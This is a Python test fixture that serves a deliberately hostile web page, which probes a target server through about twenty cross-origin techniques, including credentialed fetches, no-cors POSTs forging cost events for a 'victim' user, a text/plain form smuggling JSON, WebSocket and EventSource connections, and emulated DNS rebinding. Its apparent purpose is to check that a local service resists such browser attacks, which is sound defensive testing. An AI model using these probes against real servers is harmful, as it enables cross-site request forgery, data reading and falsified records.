"""A page that tries what pages can to read from another server, or to store there, and reports what it got."""

import http.client
import json
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

# Each probe ends with what it read ("read: ..."), or with how it ended. The page asks for JAVASCRIPT answers by
# `leak(...)`, and names what it posts after its probe.
_PAGE = """<!doctype html><title>nice page</title><body><script>
const targets = TARGETS, seen = {};
let answer = () => {};
window.leak = text => answer("read: " + text);
const add = (tag, attributes) => new Promise(resolve => {
  const one = document.createElement(tag);
  answer = resolve;
  one.onload = () => setTimeout(() => resolve("loaded"), 50);
  one.onerror = () => resolve("failed");
  Object.assign(one, attributes);
  document.body.append(one);
});
const frame = async url => {
  const one = document.createElement("iframe");
  const loaded = new Promise(resolve => { one.onload = resolve; });
  one.src = url;
  document.body.append(one);
  await loaded;
  try { return "read: " + one.contentDocument.body.innerText; } catch (error) { return "foreign"; }
};
const get = async (url, options) => {
  const got = await fetch(url, options);
  return got.type === "opaque" ? "opaque" : got.ok ? "read: " + await got.text() : "status " + got.status;
};
const event = probe => JSON.stringify({started_at: Date.now() * 1e6, request_model: "m", request_id: probe,
  user_id: "victim", reported_cost_nanousd: 1e12});
const post = (probe, options) => get(targets.calls, {method: "POST", body: event(probe), ...options});
const form = probe => new Promise(resolve => {
  const target = document.createElement("iframe"), one = document.createElement("form");
  target.name = probe;
  one.method = "POST"; one.action = targets.calls; one.target = probe; one.enctype = "text/plain";
  const field = document.createElement("input");
  [field.name, field.value] = [event(probe).slice(0, -1) + ',"attributes":{"a":"', '"}}'];
  one.append(field);
  document.body.append(target, one);
  target.onload = () => setTimeout(() => resolve("submitted"), 50);
  one.submit();
});
const opened = make => new Promise(resolve => {
  const one = make();
  one.onopen = () => resolve("read: open");
  one.onerror = () => { one.close(); resolve("failed"); };
});
const probes = {
  script_sql: () => add("script", {src: targets.sql_script}),
  script_request: () => add("script", {src: targets.request}),
  module: () => add("script", {type: "module", src: targets.sql_script}),
  image: () => add("img", {src: targets.sql_script}),
  stylesheet: () => add("link", {rel: "stylesheet", href: targets.sql_script}),
  object: () => Promise.race([add("object", {data: targets.request}), new Promise(r => setTimeout(r, 500, "late"))]),
  frame_request: () => frame(targets.request),
  frame_sql: () => frame(targets.sql_script),
  fetch_request: () => get(targets.request),
  fetch_sql: () => get(targets.sql_script),
  fetch_opaque: () => get(targets.sql_script, {mode: "no-cors"}),
  fetch_credentials: () => get(targets.request, {credentials: "include"}),
  post_text: () => post("post_text", {mode: "no-cors", headers: {"content-type": "text/plain"}}),
  post_form_type: () => post("post_form_type", {mode: "no-cors",
    headers: {"content-type": "application/x-www-form-urlencoded"}}),
  post_untyped: () => post("post_untyped", {mode: "no-cors", body: new Blob([event("post_untyped")])}),
  post_two_types: () => post("post_two_types", {mode: "no-cors",
    headers: {"content-type": "text/plain; application/json"}}),
  post_json: () => post("post_json", {headers: {"content-type": "application/json"}}),
  post_sql: () => get(targets.sql, {method: "POST", mode: "no-cors", body: "SELECT 1"}),
  beacon: async () => String(navigator.sendBeacon(targets.calls, event("beacon"))),
  form: () => form("form"),
  socket: () => opened(() => new WebSocket(targets.calls.replace("http", "ws"))),
  events: () => opened(() => new EventSource(targets.request)),
};
(async () => {
  for (const [name, probe] of Object.entries(probes)) {
    const slow = new Promise(resolve => setTimeout(resolve, 3000, "late"));
    seen[name] = await Promise.race([probe().catch(error => "refused: " + error.message), slow]);
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""
PROBES = frozenset(
    {
        *("script_sql", "script_request", "module", "image", "stylesheet", "object", "frame_request", "frame_sql"),
        *("fetch_request", "fetch_sql", "fetch_opaque", "fetch_credentials", "post_text", "post_form_type"),
        *("post_untyped", "post_two_types", "post_json", "post_sql", "beacon", "form", "socket", "events"),
    }
)


@dataclass
class HostilePage:
    """The page's server: `url` opens the page, `report` is what it reported, once it did."""

    url: str
    report: dict[str, str] = field(default_factory=dict)

    def read(self) -> dict[str, str]:
        """Return what the page read, by probe."""
        return {name: outcome for name, outcome in self.report.items() if outcome.startswith("read:")}


@contextmanager
def hostile_page(
    targets: Mapping[str, str], host: str = "127.0.0.1", name: str = "", rebound: str = ""
) -> Iterator[HostilePage]:
    """Serve the page at an address of this machine, known to the browser as `name`.

    With `rebound` all but the page itself comes from there, under the page's own name: as after DNS rebinding.
    """
    page = HostilePage("")

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            if self.path == "/page":
                self._reply(
                    200, "text/html; charset=utf-8", _PAGE.replace("TARGETS", json.dumps(dict(targets))).encode()
                )
            else:
                self._elsewhere(b"")

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length") or 0))
            if self.path == "/report":
                page.report.update(json.loads(body))
                self._reply(204, "text/plain", b"")
            else:
                self._elsewhere(body)

        def _elsewhere(self, body: bytes) -> None:
            if not rebound:
                self._reply(404, "text/plain", b"")
                return
            connection = http.client.HTTPConnection(urlsplit(rebound).netloc, timeout=30)
            connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
            for key, value in self.headers.items():
                connection.putheader(key, value)
            connection.endheaders(body)
            answer = connection.getresponse()
            self._reply(answer.status, answer.headers["content-type"] or "", answer.read())
            connection.close()

        def _reply(self, status: int, kind: str, body: bytes) -> None:
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class names it so.
            pass

    with _serving(Handler, host) as port:
        page.url = f"http://{name or host}:{port}/page"
        yield page


@dataclass
class Unguarded:
    """A server as careless as can be: it answers every page with a script, and takes what is posted."""

    url: str
    posted: dict[str, dict[str, str]] = field(default_factory=dict)
    asked: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)


@contextmanager
def unguarded() -> Iterator[Unguarded]:
    """Serve without a guard: what the probes can do there shows that they are none too weak."""
    server = Unguarded("")

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            self._answer()

        def do_OPTIONS(self) -> None:
            self._answer()

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length") or 0)).decode()
            found = body.partition('"request_id":"')[2].partition('"')[0]
            server.posted[found] = dict(self.headers.items())
            self._answer()

        def _answer(self) -> None:
            server.asked.append((self.command, self.path, dict(self.headers.items())))
            body = b"leak('canary')"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class names it so.
            pass

    with _serving(Handler, "127.0.0.1") as port:
        server.url = f"http://127.0.0.1:{port}"
        yield server


@contextmanager
def _serving(handler: type[BaseHTTPRequestHandler], host: str) -> Iterator[int]:
    server = ThreadingHTTPServer((host, 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
